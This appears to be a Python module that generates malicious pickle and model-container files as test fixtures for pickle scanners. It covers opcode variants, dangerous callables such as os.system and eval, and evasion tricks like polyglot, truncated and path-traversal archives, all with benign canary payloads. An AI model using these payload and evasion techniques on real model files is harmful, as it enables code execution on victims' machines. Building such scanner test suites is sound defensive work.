"""Pickles that call something, by every name and opcode, and what they are packed in.

Every payload leaves a file in the folder of canaries when it runs. The callables are those that the known scanners of
pickles list (picklescan, fickling, modelscan), and Keras' Lambda layers.
"""

import base64
import gzip
import io
import json
import os
import pickle
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import Any

Args = tuple[Any, ...]
_LEGACY_MAGIC = 0x1950A86A20F9469CFC6C  # what torch's old format begins with


def _calls(canaries: Path) -> Iterator[tuple[str, str, Args]]:
    """Yield module, name and arguments of everything that a pickle may call to do harm."""
    number = 0

    def canary() -> str:
        nonlocal number
        number += 1
        return str(canaries / f"call-{number}")

    def touch() -> str:
        return f"touch {canary()}"

    def code() -> str:
        return f"open({canary()!r}, 'w').close()"

    yield from (("os", "system", (touch(),)), ("posix", "system", (touch(),)), ("nt", "system", (touch(),)))
    yield from (("os", "popen", (touch(),)), ("os", "mkdir", (canary(),)), ("posix", "mkdir", (canary(),)))
    yield "os", "spawnl", (os.P_WAIT, "/bin/touch", "touch", canary())
    yield "os", "posix_spawn", ("/bin/touch", ["touch", canary()], {})
    yield "os", "symlink", ("/etc/passwd", canary())
    for name in ("Popen", "call", "run", "check_call", "check_output"):
        yield "subprocess", name, (["touch", canary()],)
    for name in ("getoutput", "getstatusoutput"):
        yield "subprocess", name, (touch(),)
    yield "commands", "getoutput", (touch(),)
    for module in ("builtins", "__builtin__"):
        yield from ((module, "eval", (code(),)), (module, "exec", (code(),)), (module, "open", (canary(), "w")))
    yield from (("builtins", "compile", (code(), "x", "exec")), ("builtins", "__import__", ("antigravity",)))
    yield "builtins", "getattr", (canary(), "upper")
    yield "builtins", "breakpoint", ()
    yield from (
        ("io", "open", (canary(), "w")),
        ("_io", "FileIO", (canary(), "w")),
        ("codecs", "open", (canary(), "w")),
    )
    yield "pathlib", "PosixPath", (canary(),)
    yield from (("pty", "spawn", (["touch", canary()],)), ("platform", "popen", (touch(),)))
    yield from (("runpy", "_run_code", (code(), {})), ("runpy", "run_path", ("/nowhere/evil.py",)))
    yield from (("importlib", "import_module", ("antigravity",)), ("webbrowser", "open", ("http://127.0.0.1:9/",)))
    yield from (("shutil", "copyfile", ("/etc/passwd", canary())), ("shutil", "rmtree", ("/nowhere/at/all",)))
    yield from (("socket", "create_connection", (("127.0.0.1", 9),)), ("socket", "socket", ()))
    yield from (("urllib.request", "urlopen", ("http://127.0.0.1:9/",)), ("http.client", "HTTPConnection", ("x",)))
    yield "urllib.request", "urlretrieve", ("file:///etc/passwd", canary())
    yield from (("ftplib", "FTP", ("127.0.0.1",)), ("smtplib", "SMTP", ("127.0.0.1", 9)))
    yield "asyncio.subprocess", "create_subprocess_shell", (touch(),)
    yield "multiprocessing.util", "spawnv_passfds", (b"/bin/touch", [b"touch", canary().encode()], [])
    yield from (("ctypes", "CDLL", ("libc.so.6",)), ("ctypes.util", "find_library", ("c",)))
    yield from (("code", "interact", ()), ("codeop", "compile_command", (code(),)), ("timeit", "timeit", (code(),)))
    yield from (("cProfile", "run", (code(),)), ("profile", "run", (code(),)), ("pdb", "run", (code(),)))
    yield from (("bdb", "Bdb", ()), ("trace", "Trace", ()), ("doctest", "debug_script", (code(),)))
    yield from (("pydoc", "pipepager", ("x", touch())), ("pydoc", "tempfilepager", ("x", touch())))
    yield from (("distutils.spawn", "spawn", (["touch", canary()],)), ("ensurepip", "_run_pip", (["--version"],)))
    yield from (("imaplib", "IMAP4_stream", (touch(),)), ("venv", "create", (canary(),)))
    yield "test.support.script_helper", "assert_python_ok", ("-c", code())
    yield "logging.config", "listen", (0,)
    yield from (("logging", "FileHandler", (canary(),)), ("sqlite3", "connect", (canary(),)))
    yield from (("operator", "methodcaller", ("system", touch())), ("operator", "attrgetter", ("system",)))
    yield from (("functools", "partial", (int,)), ("types", "FunctionType", ()), ("types", "CodeType", ()))
    yield from (("marshal", "loads", (b"c",)), ("atexit", "register", (print,)), ("site", "addsitedir", ("/nowhere",)))
    inner = call("os", "system", (touch(),))
    for module in ("pickle", "_pickle", "dill", "cloudpickle"):
        yield module, "loads", (inner,)
    yield "numpy.testing._private.utils", "runstring", (code(), {})
    yield from (("numpy", "load", ("/nowhere.npy", "r", True)), ("joblib", "load", ("/nowhere.joblib",)))
    yield from (("pandas", "read_pickle", ("/nowhere.pkl",)), ("torch", "load", ("/nowhere.pt",)))
    yield from (("torch.storage", "_load_from_bytes", (inner,)), ("torch.jit", "load", ("/nowhere.pt",)))
    yield from (("torch.hub", "load", ("nobody/nothing", "evil")), ("torch.utils.collect_env", "run", (touch(),)))
    yield "torch.utils._config_module", "ConfigModule.load_config", (inner,)
    yield "torch._inductor.codecache", "compile_file", ("/nowhere.cpp", canary(), ["touch"])
    yield "torch.distributed.run", "main", (["--version"],)
    yield "torch.multiprocessing.spawn", "spawn", (print,)
    yield from (
        ("pip._internal.cli.main", "main", (["--version"],)),
        ("uuid", "_get_command_stdout", ("touch", canary())),
    )
    yield from (("tempfile", "mktemp", ()), ("threading", "Thread", ()), ("sys", "setrecursionlimit", (10,)))


def call(module: str, name: str, args: Args, protocol: int = 2) -> bytes:
    """Return the pickle that calls `name` of `module` with `args`, without importing either."""
    body = _body(args, protocol)
    head = b"\x80" + bytes([protocol]) if protocol >= 2 else b""
    if protocol >= 4:
        return head + _short(module) + _short(name) + b"\x93" + body + b"R."
    return head + b"c" + f"{module}\n{name}\n".encode() + body + b"R."


def _body(args: Args, protocol: int) -> bytes:
    """Return the opcodes that put `args` on the stack."""
    plain = tuple(value if isinstance(value, int | str | bytes | list | dict | tuple) else str(value) for value in args)
    content = pickle.dumps(plain, protocol)[:-1]
    if protocol >= 2:
        content = content[2:]
    return content[9:] if content[:1] == b"\x95" else content


def _short(text: str) -> bytes:
    encoded = text.encode()
    return b"\x8c" + bytes([len(encoded)]) + encoded


def pickled(canaries: Path) -> Iterator[tuple[str, bytes]]:
    """Yield each call as a file of its own: protocols, containers and endings take turns."""
    wraps = (_plain, torch_zip, _legacy, _plain)
    for number, (module, name, args) in enumerate(_calls(canaries)):
        content = call(module, name, args, number % 6)
        wrapped = wraps[number % len(wraps)](content)
        ending = (".pth", ".pt", ".pth", ".safetensors")[number % 4]
        yield f"{number:03d}-{module.replace('.', '_')}-{name.replace('.', '_')}{ending}", wrapped
    yield from _opcodes(canaries)


def _opcodes(canaries: Path) -> Iterator[tuple[str, bytes]]:
    """Yield the same call by every opcode that can make one, and pickles that hide where they end."""
    command = f"touch {canaries / 'opcode'}"
    quoted = f"S'{command}'\n".encode()
    yield "inst.pth", b"(" + quoted + b"ios\nsystem\n."
    yield "obj.pth", b"(cos\nsystem\n" + quoted + b"o."
    yield "newobj.pth", b"\x80\x02cos\nsystem\n" + quoted + b"\x85\x81."
    yield "newobj_ex.pth", b"\x80\x04cos\nsystem\n" + quoted + b"\x85}\x92."
    yield "build.pth", b"\x80\x02cbuiltins\nException\n)R}U\x08__reduce__cos\nsystem\nsb."
    yield "ext.pth", b"\x80\x02\x82\x01" + quoted + b"\x85R."
    yield "persid.pth", b"\x80\x02" + quoted + b"Q."
    yield "memo.pth", b"\x80\x02cos\nsystem\nq\x000h\x00" + quoted + b"\x85R."
    yield "truncated.pth", call("os", "system", (command,))[:-1]  # it runs before the end is missed
    yield "junk_after.pth", call("os", "system", (command,)) + os.urandom(64)
    yield "two_pickles.pth", pickle.dumps({"weight": 1}) + call("os", "system", (command,))
    yield "junk_before.pth", b"\0" * 64 + call("os", "system", (command,))
    yield "deep.pth", b"\x80\x02" + b"(" * 100_000 + b"cos\nsystem\n" + quoted + b"\x85R."
    yield "dotted.pth", call("os", "path.os.system", (command,), 4)


# What pickles are packed in


def _plain(content: bytes) -> bytes:
    return content


def torch_zip(content: bytes, extra: Mapping[str, bytes] | None = None, member: str = "archive/data.pkl") -> bytes:
    """Return what torch.save makes today, with this pickle in it."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr(member, content)
        archive.writestr("archive/version", "3\n")
        archive.writestr("archive/byteorder", "little")
        archive.writestr("archive/data/0", b"\0" * 16)
        for name, inner in (extra or {}).items():
            archive.writestr(name, inner)
    return file.getvalue()


def _legacy(content: bytes) -> bytes:
    """Return what torch.save made long ago: magic number, version, system, then the pickle."""
    system = {"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}
    return b"".join(pickle.dumps(part, 2) for part in (_LEGACY_MAGIC, 1001, system)) + content


def containers(canaries: Path) -> Iterator[tuple[str, bytes]]:
    """Yield files that are one thing at the front and another behind, and packings within packings."""
    evil = call("os", "system", (f"touch {canaries / 'container'}",))
    good = pickle.dumps({"weight": 1}, 2)
    code = f"open({str(canaries / 'container')!r}, 'w').close()"
    yield "other_member.pt", torch_zip(good, {"archive/evil.pkl": evil, "evil.py": code.encode()})
    yield "constants.pt", torch_zip(good, {"archive/constants.pkl": evil, "archive/code/__torch__.py": code.encode()})
    yield "torchscript.pt", torch_zip(evil, {"constants.pkl": evil, "code/__torch__/evil.py": code.encode()})
    yield "twice.pt", _twice(good, evil)
    yield "wrong_crc.pt", torch_zip(evil).replace(struct.pack("<I", zlib.crc32(evil)), b"\1\2\3\4")
    yield "encrypted_flag.pt", torch_zip(evil).replace(b"PK\3\4\x14\0\0\0", b"PK\3\4\x14\0\1\0", 1)
    yield "zip_after_pickle.pth", evil + torch_zip(good)
    yield "pickle_after_zip.pth", torch_zip(good) + evil
    yield "zip_in_zip.pt", torch_zip(good, {"archive/inner.zip": torch_zip(evil)})
    yield "slip.pt", torch_zip(evil, {f"../../{canaries.name}/slip": b"x", str(canaries / "absolute"): b"x"})
    yield "packed.pth", gzip.compress(evil)
    yield "seven.pth", b"7z\xbc\xaf\x27\x1c" + evil
    yield "tar.pth", _tar({"pickle": evil, "storages": evil, "tensors": evil}, canaries)
    yield "script.pth", f"import os\n{code}\n".encode()
    yield "joblib.pth", zlib.compress(evil)
    yield (
        "array.pth",
        b"\x93NUMPY\x01\x00v\x00{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(128) + evil,
    )
    yield "keras.pth", _zip({"config.json": _lambda_layer(code), "metadata.json": b"{}", "model.weights.h5": b"x"})
    yield "keras_h5.pth", b"\x89HDF\r\n\x1a\n" + b"\0" * 64 + _lambda_layer(code)
    yield "saved_model.pth", b"\x08\x01\x12\x20ReadFile WriteFile PyFunc" + evil
    yield "lightning.pt", torch_zip(call("pytorch_lightning.utilities", "evil", (code,)))


def _twice(good: bytes, evil: bytes) -> bytes:
    """Return an archive in which the same name stands twice, so that readers may differ in which they take."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr("archive/data.pkl", good)
        archive.writestr("archive/data.pk_", evil)
        archive.writestr("archive/version", "3\n")
    return file.getvalue().replace(b"archive/data.pk_", b"archive/data.pkl")


def _zip(members: Mapping[str, bytes]) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return file.getvalue()


def _tar(members: Mapping[str, bytes], canaries: Path) -> bytes:
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w") as archive:
        for name, content in {**members, f"../{canaries.name}/tar": b"x"}.items():
            entry = tarfile.TarInfo(name)
            entry.size = len(content)
            archive.addfile(entry, io.BytesIO(content))
        link = tarfile.TarInfo("link")
        link.type, link.linkname = tarfile.SYMTYPE, str(canaries)
        archive.addfile(link)
    return file.getvalue()


def _lambda_layer(code: str) -> bytes:
    """Return Keras' configuration of a layer whose function is marshalled code."""
    body = base64.b64encode(code.encode()).decode()
    layer = {"class_name": "Lambda", "config": {"function": [body, None, None], "function_type": "lambda"}}
    return json.dumps({"class_name": "Sequential", "config": {"layers": [layer]}}).encode()
